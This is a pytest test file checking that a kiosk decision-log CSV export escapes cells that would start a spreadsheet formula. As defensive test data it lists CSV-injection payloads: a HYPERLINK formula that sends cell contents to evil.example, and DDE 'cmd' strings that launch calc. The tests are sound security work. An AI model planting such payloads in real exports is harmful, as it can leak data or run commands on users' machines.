"""CSV export is safe to open in a spreadsheet: no cell can start a formula (CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from kiosk.store.export import FORMULA_STARTS, SpreadsheetCsvWriter, spreadsheet_safe
from kiosk.store.log import DecisionLog

from .conftest import NOW

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _export(decision_log: DecisionLog) -> list[list[str]]:
    out = io.StringIO()
    decision_log.export(NOW - dt.timedelta(hours=1), NOW + dt.timedelta(hours=1), "csv", out)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_every_column_of_the_log_export_is_neutralised(decision_log: DecisionLog) -> None:
    for i, value in enumerate(HOSTILE):
        decision_log.append(
            "decision",
            NOW + dt.timedelta(seconds=i),
            {
                "approval_no": value,
                "host_unit": value,
                "name_masked": value,
                "nested": {"list": [value, "ok"]},
                value: "a payload key is a header cell",
            },
            gate=value,
            outcome=value,
            person_no=value,
        )
    rows = _export(decision_log)
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    header, first = rows[0], rows[1]
    assert first[header.index("person_no")] == "'" + HOSTILE[0]
    assert first[header.index("host_unit")] == "'" + HOSTILE[0]
    assert first[header.index("gate")] == "'" + HOSTILE[0]
    assert "'" + HOSTILE[0] in header  # the payload key as a column name
    assert rows[2][header.index("nested.list")] == "'" + HOSTILE[1] + "|ok"


def test_the_chain_still_verifies_after_a_neutralised_export(decision_log: DecisionLog) -> None:
    decision_log.append("decision", NOW, {"x": HOSTILE[0]}, gate="north", person_no=HOSTILE[0])
    _export(decision_log)
    assert decision_log.verify().ok  # the stored record is unchanged; only the cell is


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-3.5", "-3.5"),  # a number is data, not a formula
        ("+42", "+42"),
        ("T1001", "T1001"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(cell: str, shown: str) -> None:
    assert spreadsheet_safe(cell) == shown


def test_writer_quotes_with_the_csv_module_and_writes_values_as_text() -> None:
    out = io.StringIO()
    writer = SpreadsheetCsvWriter(out)
    writer.writerow(['=a,"b"\nc', "x\ry", None, True, -3.5, 7])
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        ["'=a,\"b\"\nc", "x\ry", "", "true", "-3.5", "7"]
    ]
